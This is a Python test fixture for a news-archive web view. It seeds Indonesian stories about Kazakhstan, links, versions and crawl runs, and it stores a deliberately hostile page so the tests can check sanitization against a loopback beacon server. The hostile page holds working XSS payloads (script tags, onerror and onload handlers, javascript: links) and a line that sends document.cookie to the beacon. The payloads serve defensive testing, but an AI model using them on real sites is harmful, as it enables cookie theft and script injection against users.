"""The archive the web view's tests read: stories about Kazakhstan with related links (one not
archived), a near-duplicate copy, versions, runs with failures, and a hostile page stored
through the archive's own write path (``storage.archive.store_page``)."""

from __future__ import annotations

import http.server
import threading
from datetime import timedelta
from typing import Any

from sqlalchemy.orm import Session

from crawler.dedup import fingerprint
from storage.archive import ArchivedPage, LinkRecord, store_page
from storage.models import utcnow
from storage.runs import create_run, ensure_site, finish_run
from tests.archive_factory import BASE_TIME, ArchiveFactory, filler

STORIES = 7  # articles holding "kazakhstan"
HOSTILE_TITLE = 'Berita <script>window.pwnedTitle=1;alert("t")</script><img src=x onerror=alert(5)>'
HOSTILE_AUTHOR = '<b onmouseover="alert(7)">Penulis</b>'


def hostile_html(beacon: str) -> bytes:
    """An archived page that tries everything: scripts, handlers, refresh, a javascript: link,
    reaching the parent, top, cookies and storage, and loading from ``beacon``."""
    return f"""<!doctype html><html><head><meta charset="utf-8">
<meta http-equiv="refresh" content="0;url={beacon}/refresh">
<title>Halaman jahat</title>
<script>
window.pwned = 1; document.title = "PWNED-RAW";
try {{ parent.document.title = "PWNED-PARENT"; }} catch (e) {{}}
try {{ top.location = "{beacon}/top"; }} catch (e) {{}}
try {{ localStorage.setItem("pwned", "1"); }} catch (e) {{}}
try {{ new Image().src = "{beacon}/cookie?c=" + document.cookie; }} catch (e) {{}}
try {{ fetch("{beacon}/fetch"); }} catch (e) {{}}
alert("script");
</script>
</head><body>
<h1>Penyusup di Astana</h1>
<p>Laporan penyusup kazakhstan di perbatasan.</p>
<img src="x" onerror="window.pwned=2; alert('onerror'); fetch('{beacon}/onerror')">
<svg onload="window.pwned=3; alert('svg'); fetch('{beacon}/svg')"><circle r="3"/></svg>
<a id="jslink" href="javascript:alert('link');fetch('{beacon}/jslink')">klik di sini</a>
<img src="{beacon}/img">
<iframe src="{beacon}/frame"></iframe>
<form action="{beacon}/form"><input name="x"></form>
</body></html>""".encode()


def build(session: Session, *, beacon: str = "http://127.0.0.1:9") -> dict[str, Any]:
    """Fill the archive; returns the ids the tests need."""
    f = ArchiveFactory(session)
    for i in range(12):
        f.article(title=f"Kabar daerah {i}", body=filler(80, seed=i), site="kompas")
    stories = []
    for i in range(STORIES):
        stories.append(f.article(
            title=f"Kazakhstan bagian {i}: pasukan Rusia di Astana",
            body=(f"Laporan ke-{i} dari Kazakhstan. " + filler(60, seed=i)
                  + " Pasukan Rusia tiba di Astana menurut pejabat Kazakhstan."),
            site="intisari", authors=["Afif Khoirul"], section="Internasional",
            aliases=(f"https://intisari.example/amp/read/{i}/kazakhstan",)
            if i == 0 else (),
        ))
    main = stories[-1]
    copy = f.article(title=main.title, body=main.body + " Salinan.", site="tribun",
                     duplicate_of=main, authors=["Tim Tribun"])
    f.link(main, stories[-2].canonical_url, kind="inline", anchor="Baca Juga: bagian 5")
    f.link(main, stories[-3].canonical_url, kind="block", anchor="Bagian 4")
    f.link(main, "https://intisari.example/read/99999/belum-diarsip", kind="block",
           anchor="Belum diarsip")
    f.link(stories[-2], stories[0].canonical_url, kind="inline", anchor="Bagian 0")
    f.link(stories[0], main.canonical_url, kind="block", anchor="Bagian terbaru")
    f.version(main, title="Kazakhstan: draf awal", body="Laporan awal pasukan tiba di kota.",
              version=1, first_seen=BASE_TIME, last_seen=BASE_TIME + timedelta(hours=1))
    f.version(main, title=main.title, body="Laporan kedua pasukan Rusia tiba di Astana.",
              version=2, first_seen=BASE_TIME + timedelta(hours=1),
              last_seen=BASE_TIME + timedelta(hours=2), reason="reextract")
    # runs: a finished one, a failed one with failures, and a running one
    now = utcnow()
    r1 = create_run(session, "intisari", trigger="daemon")
    finish_run(session, r1, "finished", stats={"pages": 9, "articles_new": 7, "errors": 0,
                                              "failures": []})
    r2 = create_run(session, "kompas", trigger="cli")
    finish_run(session, r2, "failed", error="crawl process exited with status 3",
               stats={"pages": 4, "articles_new": 0, "errors": 2, "failures": [
                   {"url": "https://kompas.example/read/1/gagal", "reason": "HTTP 503"},
                   {"url": "https://kompas.example/read/2/<b>x</b>", "reason": "timeout"}]})
    # the hostile page, stored the way a crawl stores it
    site_id = ensure_site(session, "jahat")
    body = "Laporan penyusup kazakhstan di perbatasan. <svg onload=alert(6)> " + filler(30, 3)
    raw = hostile_html(beacon)
    hostile = store_page(session, site_id, ArchivedPage(
        url="https://jahat.example/read/1/penyusup",
        canonical_url="https://jahat.example/read/1/penyusup",
        alias_urls=["javascript:alert('alias')"],
        title=HOSTILE_TITLE, authors=[HOSTILE_AUTHOR], body=body, language="id",
        section='<i onclick="alert(8)">Opini</i>', description="<script>alert(9)</script>",
        image="javascript:alert('image')", published=now - timedelta(days=1),
        related=[LinkRecord(url="javascript:alert('related')", title="<b>klik</b>",
                            kind="inline"),
                 LinkRecord(url=main.canonical_url, title="Bagian terbaru", kind="block")],
        fingerprint=fingerprint(body), headers={"Content-Type": "text/html; charset=utf-8"},
        raw_body=raw, fetched_at=now,
    ))
    session.flush()
    return {"stories": [s.id for s in stories], "main": main.id, "copy": copy.id,
            "hostile": hostile.article_id, "finished_run": r1, "failed_run": r2,
            "amp_alias": "https://intisari.example/amp/read/0/kazakhstan",
            "first_url": stories[0].canonical_url, "main_url": main.canonical_url,
            "hostile_raw": raw}


class Beacon:
    """A loopback HTTP server that records every request: a page that reached it ran."""

    def __init__(self) -> None:
        hits: list[str] = []

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self) -> None:  # noqa: N802 - http.server's name
                hits.append(self.path)
                self.send_response(204)
                self.end_headers()

            do_POST = do_GET  # noqa: N815

            def log_message(self, *args: Any) -> None:
                pass

        self.hits = hits
        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"
        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)

    def __enter__(self) -> Beacon:
        self.thread.start()
        return self

    def __exit__(self, *exc: Any) -> None:
        self.server.shutdown()
        self.server.server_close()
